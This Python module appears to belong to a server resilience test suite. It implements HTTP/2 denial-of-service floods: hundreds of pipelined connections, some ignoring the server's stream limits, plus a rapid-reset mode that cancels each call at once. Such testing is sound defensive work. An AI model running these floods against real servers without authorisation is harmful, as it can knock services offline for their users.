# SPDX-License-Identifier: Apache-2.0
"""Floods of small calls over connections by the hundred, each within its
limits: one thread sends on all of them, reads the answers, counts them and
throws them away."""

import contextlib
import dataclasses
import functools
import selectors
import struct
import time

import h2_wire
import layers
from connection_attacks import (GEMM, MANY_STREAMS, WATCH,
                                raise_descriptor_limit, small_gemm)
from h2_wire import (ACK, CANCEL, DATA, END_HEADERS, END_STREAM, HEADERS,
                     MAX_CONCURRENT_STREAMS, PING, RST_STREAM, SETTINGS,
                     WINDOW_UPDATE, frame)
from scene import expect

INFO = layers.PACKAGE + "GetServerInfo"
UNLIMITED = 1 << 30
SELECT_LIMIT_S = 0.2


@dataclasses.dataclass(frozen=True)
class Calls:
    """The calls of a flood, all alike.

    most: calls that one connection makes. at_once: calls that it sends
    together. resets: each is reset as soon as it is sent.
    """
    path: str
    body: bytes = b""
    most: int = UNLIMITED
    at_once: int = 32
    resets: bool = False

    @functools.lru_cache(maxsize=1024)
    def block(self, first):
        """The frames of the calls that go together, from a stream on."""
        headers = h2_wire.request_headers(self.path)
        body = h2_wire.message(self.body)
        reset = struct.pack(">I", CANCEL)
        frames = []
        for stream in range(first, first + 2 * self.at_once, 2):
            frames.append(frame(HEADERS, END_HEADERS, stream, headers))
            frames.append(frame(DATA, END_STREAM, stream, body))
            if self.resets:
                frames.append(frame(RST_STREAM, 0, stream, reset))
        return b"".join(frames)


class PipelinedConnection:
    """A connection that never waits: `send` and `read` are to be called when
    its socket can.

    acknowledges: True acknowledges the peer's SETTINGS and keeps to their
    limit of open calls; False does neither.
    """

    def __init__(self, address, calls, acknowledges):
        self.socket = h2_wire.connect(address)
        self.socket.setblocking(False)
        self.opened = 0          # calls
        self.answered = 0        # messages that came
        self.finished = 0        # calls that the peer ended
        self.ended = False       # the peer has closed
        self._calls = calls
        self._acknowledges = acknowledges
        self._limit = 0          # calls that may be open, once SETTINGS came
        self._incoming = bytearray()
        self._outgoing = bytearray(
            h2_wire.PREFACE + h2_wire.settings(MANY_STREAMS) +
            frame(WINDOW_UPDATE, 0, 0,
                  struct.pack(">I", h2_wire.LARGE_WINDOW)))

    def wants_to_send(self):
        """True if frames wait to be sent; prepares the next calls."""
        if not self._outgoing and self._may_open():
            self._outgoing += self._calls.block(2 * self.opened + 1)
            self.opened += self._calls.at_once
        return bool(self._outgoing)

    def _may_open(self):
        still_open = 0 if self._calls.resets else self.opened - self.finished
        more = self._calls.at_once
        return (still_open + more <= self._limit and
                self.opened + more <= self._calls.most)

    def send(self):
        with self._until_closed():
            del self._outgoing[:self.socket.send(self._outgoing)]

    def read(self):
        with self._until_closed():
            data = self.socket.recv(1 << 18)
            self.ended = not data
            self._incoming += data
            for received in h2_wire.frames_in(self._incoming):
                self._take(*received)

    @contextlib.contextmanager
    def _until_closed(self):
        try:
            yield
        except BlockingIOError:
            pass
        except OSError:
            self.ended = True

    def _take(self, kind, flags, stream, payload):
        del stream
        if kind == SETTINGS and not flags & ACK:
            self._limit = UNLIMITED
            if self._acknowledges:
                self._limit = dict(h2_wire.settings_in(payload)).get(
                    MAX_CONCURRENT_STREAMS, UNLIMITED)
                self._outgoing += frame(SETTINGS, ACK)
        elif kind == PING and not flags & ACK:
            self._outgoing += frame(PING, ACK, 0, payload)
        elif kind == DATA:
            self.answered += bool(payload)
        if kind == RST_STREAM or (kind in (HEADERS, DATA) and
                                  flags & END_STREAM):
            self.finished += 1


class Flood:
    """Connections that make the same calls, for a with block; every other one
    acknowledges the server's SETTINGS."""

    def __init__(self, address, count, calls):
        raise_descriptor_limit(count + 200)
        self._selector = selectors.DefaultSelector()
        self._connections = []
        self._refused = 0
        for number in range(count):
            try:
                connection = PipelinedConnection(address, calls,
                                                 bool(number % 2))
            except OSError:
                self._refused += 1
                continue
            self._connections.append(connection)
            self._selector.register(
                connection.socket, selectors.EVENT_READ |
                selectors.EVENT_WRITE, connection)

    def __enter__(self):
        return self

    def __exit__(self, *_):
        self._selector.close()
        for connection in self._connections:
            connection.socket.close()

    def go_on(self, seconds, is_over=lambda: False):
        """Sends and reads for so long, or until is_over() or the server has
        closed all."""
        limit = time.monotonic() + seconds
        while (time.monotonic() < limit and not is_over() and
               self._selector.get_map()):
            for key, events in self._selector.select(SELECT_LIMIT_S):
                self._go_on_with(key, events)

    def _go_on_with(self, key, events):
        connection = key.data
        if events & selectors.EVENT_WRITE and connection.wants_to_send():
            connection.send()
        if events & selectors.EVENT_READ:
            connection.read()
        if connection.ended:
            self._selector.unregister(connection.socket)
            return
        wanted = selectors.EVENT_READ
        if connection.wants_to_send():
            wanted |= selectors.EVENT_WRITE
        if wanted != key.events:
            self._selector.modify(connection.socket, wanted, connection)

    def all_were_answered(self):
        """True if each connection had an answer or was closed."""
        return all(connection.answered or connection.ended
                   for connection in self._connections)

    @property
    def left_open(self):
        return sum(not connection.ended for connection in self._connections)

    def total(self, figure):
        """The sum of a figure of the connections, by its name."""
        return sum(getattr(connection, figure)
                   for connection in self._connections)

    def __str__(self):
        return (f"{self.total('opened')} calls over "
                f"{len(self._connections)} connections, {self._refused} "
                f"refused: {self.total('answered')} answers, "
                f"{self.total('finished')} calls ended, {self.left_open} "
                f"connections left open")


def flood_with(scene, count, calls, seconds):
    """The attack, after one such call has proved to be a good one."""
    one = dataclasses.replace(calls, most=1, at_once=1, resets=False)
    with Flood(scene.tcp, 1, one) as single:
        single.go_on(20, single.all_were_answered)
        expect(single.total("answered"), f"no answer to {calls.path}")
    with Flood(scene.tcp, count, calls) as flood:
        flood.go_on(seconds)
        expect(flood.total("opened"), f"no call was sent: {flood}")
        return str(flood)


def watch_flood(scene):
    """Five hundred connections of a thousand Watches each, or as many as they
    may have."""
    return flood_with(scene, scene.count(500), Calls(WATCH, most=1000),
                      20 * scene.scale)


def request_flood(scene):
    """Queries over three hundred connections, sent as fast as the server
    takes them."""
    return flood_with(scene, 300, Calls(INFO), 10 * scene.scale)


def reset_flood_of_many(scene):
    """Whole small Gemms over a hundred connections, each reset at once."""
    return flood_with(scene, 100, Calls(GEMM, small_gemm(), resets=True),
                      10 * scene.scale)
